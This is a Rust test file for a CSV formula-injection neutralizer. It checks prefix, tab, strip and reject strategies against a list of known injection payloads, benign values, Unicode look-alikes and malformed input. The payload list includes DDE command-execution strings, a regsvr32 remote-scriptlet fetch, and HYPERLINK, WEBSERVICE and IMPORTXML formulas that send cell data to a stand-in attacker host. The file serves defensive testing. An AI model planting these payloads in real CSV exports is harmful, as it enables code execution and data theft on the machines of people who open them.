//! Engine tests: payload lists, benign values, Unicode triggers, malformed input, properties.
#![cfg(feature = "csv")]

use proptest::prelude::*;
use safeguard::csv::{Neutralizer, Rewriter, Strategy as S, Writer};

fn rewrite(nz: &Neutralizer, input: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    nz.rewriter().rewrite(input, &mut out).expect("rewrite");
    out
}

fn parse(bytes: &[u8]) -> Vec<Vec<Vec<u8>>> {
    let mut rdr = ::csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes);
    rdr.byte_records()
        .map(|r| {
            r.expect("output parses")
                .iter()
                .map(<[u8]>::to_vec)
                .collect()
        })
        .collect()
}

/// OWASP's trigger set and published payload lists (OWASP CSV injection page, PayloadsAllTheThings
/// "CSV Injection", and the DDE / HYPERLINK / IMPORTXML / WEBSERVICE families).
const PAYLOADS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/SCT.sct scrobj.dll'!''",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
    "=HYPERLINK(CONCATENATE(\"http://evil.example/?\",A1),\"Error: click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
    "=IMPORTDATA(\"http://evil.example/x.csv\")",
    "=IMPORTHTML(\"http://evil.example\",\"table\",1)",
    "=IMPORTRANGE(\"https://docs.google.com/spreadsheets/d/x\",\"A1\")",
    "=IMAGE(\"http://evil.example/p.png\")",
    "=WEBSERVICE(\"http://evil.example/?\"&A1)",
    "=FILTERXML(WEBSERVICE(\"http://evil.example\"),\"//a\")",
    "=INFO(\"system\")",
    "=1+1\"",
    "\"=1+1",
    " =1+1",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    "\r\n",
    " \t =1+1",
    "\u{a0}=1+1",
    "\u{2003}=1+1",
    "\u{3000}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\u{2060}@SUM(1)",
    "\u{201c}=1+1",
    "\u{ff1d}1+1",
    "\u{fe66}1+1",
    "\u{207c}1+1",
    "\u{ff0b}1+1",
    "\u{fe62}1+1",
    "\u{ff0d}1+1",
    "\u{fe63}1+1",
    "\u{ff20}SUM(1)",
    "\u{fe6b}SUM(1)",
    "\u{2212}1+1",
    "\u{ff02}\u{ff1d}1",
    "=@A1",
    "==1",
    "@",
    "-",
    "+",
    "=",
    "+1 555 123",
    "+1-555-123",
    "-1-2",
    "+1+2",
    "-1e5+1",
    "=-1.5",
    "0=1", // not a trigger: stays, listed here only to be filtered out below
];

fn dangerous_payloads() -> impl Iterator<Item = &'static str> {
    PAYLOADS.iter().copied().filter(|p| *p != "0=1")
}

const BENIGN: &[&str] = &[
    "1-2",
    "foo@example.org",
    "Test | Foo",
    "-1",
    "-1.5",
    "+3",
    "1e5",
    "-0.5E-3",
    "-.5",
    "hello world",
    "a=b",
    "50%",
    "",
    "   ",
    "'quoted already",
    "'\"=1+1",
    "0=1",
    "SUM(1+1)",
    "über",
    "日本語",
];

#[test]
fn every_payload_is_neutralized_by_every_strategy() {
    for strategy in [S::Prefix, S::TabPrefix, S::Strip] {
        let nz = Neutralizer::new().strategy(strategy);
        for p in dangerous_payloads() {
            assert!(
                Neutralizer::new().is_dangerous(p.as_bytes()),
                "not flagged: {p:?}"
            );
            let out = nz.neutralize(p).expect("not rejected");
            if strategy == S::TabPrefix && p.starts_with('\t') {
                // a leading TAB is this strategy's own escape: already neutralized
                assert_eq!(out, p);
                continue;
            }
            assert_ne!(out, p, "{strategy:?} left {p:?} unchanged");
            assert!(
                !nz.is_dangerous(out.as_bytes()),
                "{strategy:?}: {p:?} -> {out:?} still dangerous"
            );
            // idempotent
            assert_eq!(
                nz.neutralize(&out).expect("ok"),
                out,
                "{strategy:?} not idempotent on {p:?}"
            );
            match strategy {
                S::Prefix => assert_eq!(out, format!("'{p}")),
                S::TabPrefix if !p.starts_with('\t') => assert_eq!(out, format!("\t{p}")),
                _ => {}
            }
        }
    }
    let reject = Neutralizer::new().strategy(S::Reject);
    for p in dangerous_payloads() {
        assert!(reject.neutralize(p).is_err(), "{p:?} not rejected");
    }
}

#[test]
fn benign_values_are_untouched() {
    let nz = Neutralizer::new();
    for b in BENIGN {
        assert!(!nz.is_dangerous(b.as_bytes()), "{b:?} flagged");
        assert_eq!(nz.neutralize(b).expect("ok"), *b);
    }
    // the number option off: signed numbers are neutralized too
    let strict = Neutralizer::new().allow_numbers(false);
    assert_eq!(strict.neutralize("-1.5").expect("ok"), "'-1.5");
    assert_eq!(strict.neutralize("1e5").expect("ok"), "1e5");
}

#[test]
fn payloads_in_a_file_come_back_one_neutralized_cell_each() {
    let mut input = ::csv::Writer::from_writer(Vec::new());
    for p in PAYLOADS.iter().chain(BENIGN) {
        input.write_record(["id", p, "tail"]).expect("write");
    }
    let input = input.into_inner().expect("flush");
    let nz = Neutralizer::new();
    let out = rewrite(&nz, &input);
    let rows = parse(&out);
    let cells: Vec<&str> = PAYLOADS.iter().chain(BENIGN).copied().collect();
    assert_eq!(rows.len(), cells.len());
    for (row, cell) in rows.iter().zip(cells) {
        assert_eq!(row.len(), 3, "{cell:?} changed the structure");
        assert_eq!(row[0], b"id");
        assert_eq!(row[2], b"tail");
        assert_eq!(row[1], nz.neutralize(cell).expect("ok").as_bytes());
    }
}

#[test]
fn separator_breakout_stays_in_its_cell() {
    let nz = Neutralizer::new();
    // a value that tries to close its quotes and open a new cell
    let mut w = Writer::from_writer(Vec::new());
    w.write_record(["\"a\",=1+1", "a;=1+1", "a\t=1+1", "x\n=1+1"])
        .expect("write");
    let out = w.into_inner().expect("flush");
    let rows = parse(&out);
    assert_eq!(
        rows,
        vec![vec![
            b"\"a\",=1+1".to_vec(),
            b"a;=1+1".to_vec(),
            b"a\t=1+1".to_vec(),
            b"x\n=1+1".to_vec()
        ]]
    );
    // ; and TAB are quoted too, so a spreadsheet splitting on them keeps the cell whole
    assert_eq!(
        out,
        b"\"\"\"a\"\",=1+1\",\"a;=1+1\",\"a\t=1+1\",\"x\n=1+1\"\n"
    );
    // the raw breakout in a stream: the parser sees the second cell, which is neutralized
    assert_eq!(rewrite(&nz, b"\"a\",=1+1\n"), b"a,\"'=1+1\"\n");
}

#[test]
fn compatibility_triggers_match_nfkc() {
    use unicode_normalization::UnicodeNormalization;
    let table = safeguard::csv::COMPAT_TRIGGERS;
    let minus_family = ['\u{2212}', '\u{207B}', '\u{208B}'];
    let mut from_nfkc = Vec::new();
    for c in (0u32..=0x10FFFF).filter_map(char::from_u32) {
        if c.is_ascii() {
            continue;
        }
        let first = c.to_string().nfkc().next();
        if matches!(first, Some('=' | '+' | '-' | '@')) {
            from_nfkc.push(c);
        }
        if minus_family.contains(&c) {
            continue;
        }
        assert_eq!(
            table.contains(&c),
            matches!(first, Some('=' | '+' | '-' | '@')),
            "U+{:04X} disagrees with NFKC",
            c as u32
        );
    }
    assert!(from_nfkc.len() >= 15, "{from_nfkc:?}");
    for c in table {
        let cell = format!("{c}1+1");
        assert!(
            Neutralizer::new().is_dangerous(cell.as_bytes()),
            "U+{:04X}",
            *c as u32
        );
    }
}

#[test]
fn malformed_input_is_closed_and_neutralized() {
    let nz = Neutralizer::new();
    // unterminated quoted cell at the end
    assert_eq!(rewrite(&nz, b"a,\"=1+1,b\nc"), b"a,\"'=1+1,b\nc\"");
    // stray quotes inside unquoted cells
    assert_eq!(
        rewrite(&nz, b"a\"b,=c\"\"\n"),
        b"\"a\"\"b\",\"'=c\"\"\"\"\"\n"
    );
    // text after a closing quote joins the cell
    assert_eq!(rewrite(&nz, b"\"=1\"+1,x\n"), b"\"'=1+1\",x\n");
    // invalid UTF-8 passes through losslessly
    assert_eq!(rewrite(&nz, b"\xff\xfe,=\xc3\n"), b"\xff\xfe,\"'=\xc3\"\n");
    assert_eq!(rewrite(&nz, b"\xa0=1\n"), b"\"'\xa0=1\"\n");
    // every cell of a garbled file comes back neutralized when parsed
    let garbage = b"\"=a,\"\"b\n\"\",=c\r\n@d\"\"\n\xff=e";
    let out = rewrite(&nz, garbage);
    for row in parse(&out) {
        for cell in row {
            assert!(
                !nz.is_dangerous(&cell),
                "{:?}",
                String::from_utf8_lossy(&cell)
            );
        }
    }
}

#[test]
fn sep_line_sets_the_delimiter_and_stays() {
    let nz = Neutralizer::new();
    assert_eq!(
        rewrite(&nz, b"sep=;\r\na;=1,2\r\n"),
        b"sep=;\r\na;\"'=1,2\"\r\n"
    );
    assert_eq!(rewrite(&nz, b"SEP=\t\nx\t@y\n"), b"SEP=\t\nx\t\"'@y\"\n");
    // disabled: the line is an ordinary record
    let off = Neutralizer::new().sep_line(false);
    assert_eq!(rewrite(&off, b"sep=;\na;=1\n"), b"\"sep=;\"\n\"a;=1\"\n");
}

#[test]
fn long_cells_stream_with_a_bounded_head() {
    let nz = Neutralizer::new().max_cell_head(64);
    let mut rw = nz.rewriter();
    let mut out = Vec::new();
    rw.feed(b"ok,=", &mut out).expect("feed");
    for _ in 0..1000 {
        rw.feed(&[b'x'; 1000], &mut out).expect("feed");
    }
    rw.finish(&mut out).expect("finish");
    assert!(rw.buffer_bytes() < 100);
    let rows = parse(&out);
    assert_eq!(rows[0][0], b"ok");
    assert_eq!(rows[0][1].len(), 1_000_002);
    assert!(rows[0][1].starts_with(b"'=xxx"));
}

#[test]
fn tab_and_strip_strategies_in_a_stream() {
    let tab = Neutralizer::new().strategy(S::TabPrefix);
    assert_eq!(rewrite(&tab, b"=1+1,x\n"), b"\"\t=1+1\",x\n");
    let strip = Neutralizer::new().strategy(S::Strip);
    assert_eq!(rewrite(&strip, b"=1+1, =@SUM(1),=-2\n"), b"1+1,SUM(1),-2\n");
    let reject = Neutralizer::new().strategy(S::Reject);
    let mut rw = reject.rewriter();
    assert!(rw.rewrite(b"a,b\n", &mut Vec::new()).is_ok());
    let mut rw = reject.rewriter();
    let mut out = Vec::new();
    assert!(rw.feed(b"a,b\n@c", &mut out).is_ok());
    assert!(rw.finish(&mut out).is_err());
    assert!(!out.windows(2).any(|w| w == b"@c"));
}

#[test]
fn writer_serializes_structs() {
    #[derive(serde::Serialize)]
    struct Row {
        name: String,
        amount: f64,
    }
    let mut w = Writer::from_writer(Vec::new());
    w.serialize(Row {
        name: "=1+1".into(),
        amount: -1.5,
    })
    .expect("row");
    w.serialize(Row {
        name: "ok".into(),
        amount: 2.0,
    })
    .expect("row");
    assert_eq!(w.neutralized(), 1);
    assert_eq!(
        w.into_inner().expect("flush"),
        b"name,amount\n\"'=1+1\",-1.5\nok,2.0\n"
    );
}

// ---- properties ----

fn byte_soup() -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        Just(b",".to_vec()),
        Just(b";".to_vec()),
        Just(b"\"".to_vec()),
        Just(b"\r".to_vec()),
        Just(b"\n".to_vec()),
        Just(b"\r\n".to_vec()),
        Just(b"\t".to_vec()),
        Just(b" ".to_vec()),
        Just(b"=".to_vec()),
        Just(b"+".to_vec()),
        Just(b"-".to_vec()),
        Just(b"@".to_vec()),
        Just(b"'".to_vec()),
        Just(b"1".to_vec()),
        Just(b".5".to_vec()),
        Just(b"e3".to_vec()),
        Just(b"abc".to_vec()),
        Just(b"sep=;\n".to_vec()),
        Just(b"\xef\xbb\xbf".to_vec()),
        Just("\u{a0}".as_bytes().to_vec()),
        Just("\u{ff1d}".as_bytes().to_vec()),
        Just("\u{200b}".as_bytes().to_vec()),
        Just(b"\xff".to_vec()),
        Just(b"\xef\xbc".to_vec()),
    ];
    prop::collection::vec(piece, 0..60).prop_map(|v| v.concat())
}

fn cell_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("="),
        Just("+"),
        Just("-"),
        Just("@"),
        Just("\t"),
        Just("\r"),
        Just("\n"),
        Just(" "),
        Just("\""),
        Just("'"),
        Just(","),
        Just(";"),
        Just("1"),
        Just("."),
        Just("e"),
        Just("x"),
        Just("\u{a0}"),
        Just("\u{ff0b}"),
        Just("\u{feff}"),
        Just("SUM(A1)"),
        Just("|"),
    ];
    prop::collection::vec(piece, 0..12).prop_map(|v| v.concat())
}

/// Parses as Excel would: a leading BOM and `sep=X` line set the delimiter.
fn parse_like_a_spreadsheet(bytes: &[u8]) -> Vec<Vec<Vec<u8>>> {
    let body = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    let (delimiter, body) = match body {
        [s, e, p, b'=', d, b'\n', rest @ ..] | [s, e, p, b'=', d, b'\r', b'\n', rest @ ..]
            if [*s, *e, *p].eq_ignore_ascii_case(b"sep") && !matches!(d, b'"' | b'\r' | b'\n') =>
        {
            (*d, rest)
        }
        _ => (b',', body),
    };
    let mut rdr = ::csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .from_reader(body);
    rdr.byte_records()
        .map(|r| {
            r.expect("output parses")
                .iter()
                .map(<[u8]>::to_vec)
                .collect()
        })
        .collect()
}

fn split_rewrite(nz: &Neutralizer, input: &[u8], cuts: &[usize]) -> Vec<u8> {
    let mut rw: Rewriter = nz.rewriter();
    let mut out = Vec::new();
    let mut cuts: Vec<usize> = cuts.iter().map(|c| c % (input.len() + 1)).collect();
    cuts.sort_unstable();
    let mut at = 0;
    for c in cuts {
        rw.feed(&input[at..c], &mut out).expect("feed");
        at = c;
    }
    rw.feed(&input[at..], &mut out).expect("feed");
    rw.finish(&mut out).expect("finish");
    out
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn every_chunk_split_gives_the_same_output(
        input in byte_soup(),
        cuts in prop::collection::vec(any::<usize>(), 0..8),
        small in any::<bool>(),
        strategy in prop_oneof![Just(S::Prefix), Just(S::TabPrefix), Just(S::Strip)],
    ) {
        let nz = Neutralizer::new().strategy(strategy).max_cell_head(if small { 64 } else { 8192 });
        let whole = rewrite(&nz, &input);
        prop_assert_eq!(&split_rewrite(&nz, &input, &cuts), &whole);
        // byte by byte
        let mut rw = nz.rewriter();
        let mut out = Vec::new();
        for b in &input {
            rw.feed(std::slice::from_ref(b), &mut out).expect("feed");
        }
        rw.finish(&mut out).expect("finish");
        prop_assert_eq!(&out, &whole);
        // rewriting is idempotent
        prop_assert_eq!(rewrite(&nz, &whole), whole.clone());
        // whatever came in, nothing dangerous goes out
        for row in parse_like_a_spreadsheet(&whole) {
            for cell in row {
                prop_assert!(!nz.is_dangerous(&cell), "{:?}", String::from_utf8_lossy(&cell));
            }
        }
    }

    #[test]
    fn one_neutralized_cell_per_input_cell(
        rows in prop::collection::vec(prop::collection::vec(cell_text(), 1..5), 1..8),
        small in any::<bool>(),
        crlf in any::<bool>(),
    ) {
        let mut w = ::csv::WriterBuilder::new()
            .flexible(true)
            .terminator(if crlf { ::csv::Terminator::CRLF } else { ::csv::Terminator::Any(b'\n') })
            .from_writer(Vec::new());
        for r in &rows {
            w.write_record(r).expect("write");
        }
        let input = w.into_inner().expect("flush");
        let nz = Neutralizer::new().max_cell_head(if small { 64 } else { 8192 });
        let out = rewrite(&nz, &input);
        let parsed = parse(&out);
        // The csv crate skips blank lines; so does csv-core: compare with what the csv crate
        // reads from the input.
        let expected = parse(&input);
        prop_assert_eq!(parsed.len(), expected.len());
        for (got, want) in parsed.iter().zip(&expected) {
            prop_assert_eq!(got.len(), want.len());
            for (g, w) in got.iter().zip(want) {
                let exact = nz.neutralize_bytes(w).expect("ok").into_owned();
                if small && w.len() > 64 {
                    // classified from its head: unchanged or prefixed, never left dangerous
                    prop_assert!(g == &exact || g[..] == [&b"'"[..], w].concat()[..]);
                } else {
                    prop_assert_eq!(g, &exact);
                }
                prop_assert!(!nz.is_dangerous(g));
            }
        }
    }

    /// Well-formed exports (what the rewriter's fast path handles): rewriting a whole input
    /// gives the bytes and errors that csv-core's path gives when fed one byte at a time (a
    /// record is never complete in one byte, so that path never takes the fast one).
    #[test]
    fn fast_path_matches_csv_core(
        rows in prop::collection::vec(prop::collection::vec(cell_text(), 1..6), 1..10),
        style in prop_oneof![
            Just(::csv::QuoteStyle::Necessary),
            Just(::csv::QuoteStyle::Always),
            Just(::csv::QuoteStyle::NonNumeric),
        ],
        delimiter in prop_oneof![Just(b','), Just(b';'), Just(b'\t'), Just(b'|')],
        crlf in any::<bool>(),
        small in any::<bool>(),
        strategy in prop_oneof![Just(S::Prefix), Just(S::TabPrefix), Just(S::Strip), Just(S::Reject)],
    ) {
        let mut w = ::csv::WriterBuilder::new()
            .flexible(true)
            .quote_style(style)
            .delimiter(delimiter)
            .terminator(if crlf { ::csv::Terminator::CRLF } else { ::csv::Terminator::Any(b'\n') })
            .from_writer(Vec::new());
        for r in &rows {
            w.write_record(r).expect("write");
        }
        let input = w.into_inner().expect("flush");
        let nz = Neutralizer::new()
            .delimiter(delimiter)
            .strategy(strategy)
            .max_cell_head(if small { 64 } else { 8192 });
        let run = |one_byte: bool| {
            let mut rw = nz.rewriter();
            let mut out = Vec::new();
            let r = if one_byte {
                input.iter().try_for_each(|b| rw.feed(std::slice::from_ref(b), &mut out))
            } else {
                rw.feed(&input, &mut out)
            };
            r.and_then(|()| rw.finish(&mut out))
                .map(|()| (out, rw.cells(), rw.neutralized()))
        };
        prop_assert_eq!(run(false), run(true));
    }

    #[test]
    fn writer_output_parses_back_to_neutralized_cells(
        rows in prop::collection::vec(prop::collection::vec(cell_text(), 3), 1..8),
    ) {
        let nz = Neutralizer::new();
        let mut w = Writer::from_writer(Vec::new());
        for r in &rows {
            w.write_record(r).expect("write");
        }
        let out = w.into_inner().expect("flush");
        let parsed = parse(&out);
        prop_assert_eq!(parsed.len(), rows.len());
        for (got, want) in parsed.iter().zip(&rows) {
            prop_assert_eq!(got.len(), want.len());
            for (g, w) in got.iter().zip(want) {
                let want = nz.neutralize(w).expect("ok");
                prop_assert_eq!(&g[..], want.as_bytes());
            }
        }
        // the streaming rewriter leaves the writer's output as it is
        prop_assert_eq!(rewrite(&nz, &out), out);
    }
}

// ---- LibreOffice Calc as oracle ----

/// Runs `soffice --headless --convert-to csv` on `files` in `dir` with formula evaluation on
/// (CSV import filter options), a private profile and a timeout. Returns false if soffice is absent.
fn libreoffice_convert(dir: &std::path::Path, files: &[&str]) -> bool {
    use std::process::{Command, Stdio};
    use std::time::{Duration, Instant};
    let Ok(which) = Command::new("sh")
        .args(["-c", "command -v soffice"])
        .output()
    else {
        return false;
    };
    if !which.status.success() {
        return false;
    }
    let profile = dir.join("profile");
    let out = dir.join("out");
    let mut cmd = Command::new("soffice");
    cmd.arg(format!(
        "-env:UserInstallation=file://{}",
        profile.display()
    ))
    .arg("--headless")
    .arg("--norestore")
    // separator ',', text delimiter '"', UTF-8, from line 1, default cell format, en-US,
    // quoted fields not forced to text, no special-number detection: formulas evaluate
    .arg("--infilter=CSV:44,34,76,1,,1033,false,false")
    .args(["--convert-to", "csv", "--outdir"])
    .arg(&out)
    .args(files.iter().map(|f| dir.join(f)))
    .stdout(Stdio::null())
    .stderr(Stdio::null());
    let mut child = cmd.spawn().expect("spawn soffice");
    let start = Instant::now();
    loop {
        if let Some(status) = child.try_wait().expect("wait soffice") {
            assert!(status.success(), "soffice failed: {status}");
            return true;
        }
        if start.elapsed() > Duration::from_secs(240) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("soffice timed out");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn libreoffice_evaluates_no_neutralized_cell() {
    let dir = std::env::temp_dir().join(format!("safeguard-csv-oracle-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("temp dir");

    // one cell per record, between two plain cells
    let cells: Vec<&str> = PAYLOADS.iter().chain(BENIGN).copied().collect();
    let mut raw = ::csv::Writer::from_writer(Vec::new());
    for c in &cells {
        raw.write_record(["x", c, "y"]).expect("write");
    }
    let raw = raw.into_inner().expect("flush");
    std::fs::write(dir.join("raw.csv"), &raw).expect("write raw");
    let strategies = [
        ("prefix", S::Prefix),
        ("tab", S::TabPrefix),
        ("strip", S::Strip),
    ];
    for (name, s) in strategies {
        let out = rewrite(&Neutralizer::new().strategy(s), &raw);
        std::fs::write(dir.join(format!("{name}.csv")), out).expect("write");
    }
    if !libreoffice_convert(&dir, &["raw.csv", "prefix.csv", "tab.csv", "strip.csv"]) {
        println!(
            "SKIPPED libreoffice_evaluates_no_neutralized_cell: `soffice` is not on PATH (install libreoffice-calc-nogui)"
        );
        let _ = std::fs::remove_dir_all(&dir);
        return;
    }
    let read =
        |name: &str| parse(&std::fs::read(dir.join("out").join(name)).expect("soffice output"));
    let same = |got: &[u8], want: &[u8]| {
        // LibreOffice stores line breaks inside cells as LF
        let lf = |b: &[u8]| {
            String::from_utf8_lossy(b)
                .replace("\r\n", "\n")
                .replace('\r', "\n")
        };
        lf(got) == lf(want) || {
            // numbers come back formatted (`+3` -> `3`, `1e5` -> `100000`)
            let num = |b: &[u8]| {
                std::str::from_utf8(b)
                    .ok()
                    .and_then(|s| s.trim().parse::<f64>().ok())
            };
            matches!((num(got), num(want)), (Some(a), Some(b)) if a == b)
        }
    };

    // the oracle works: raw formulas are evaluated
    let raw_rows = read("raw.csv");
    let evaluated: Vec<&str> = raw_rows
        .iter()
        .zip(&cells)
        .filter(|(row, c)| !same(row.get(1).map_or(&b""[..], |v| v), c.as_bytes()))
        .map(|(_, c)| *c)
        .collect();
    assert!(
        evaluated.contains(&"=1+1"),
        "LibreOffice did not evaluate =1+1: {evaluated:?}"
    );
    println!(
        "LibreOffice evaluated {} raw cells, e.g. {:?}",
        evaluated.len(),
        &evaluated[..evaluated.len().min(5)]
    );

    for (name, s) in strategies {
        let nz = Neutralizer::new().strategy(s);
        let rows = read(&format!("{name}.csv"));
        assert_eq!(rows.len(), cells.len(), "{name}: record count");
        for (row, c) in rows.iter().zip(&cells) {
            let want = nz.neutralize(c).expect("ok");
            assert_eq!(row.len(), 3, "{name}: {c:?} changed the structure: {row:?}");
            assert!(
                same(&row[1], want.as_bytes()),
                "{name}: LibreOffice changed {:?} (from {c:?}) into {:?}",
                want,
                String::from_utf8_lossy(&row[1])
            );
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}
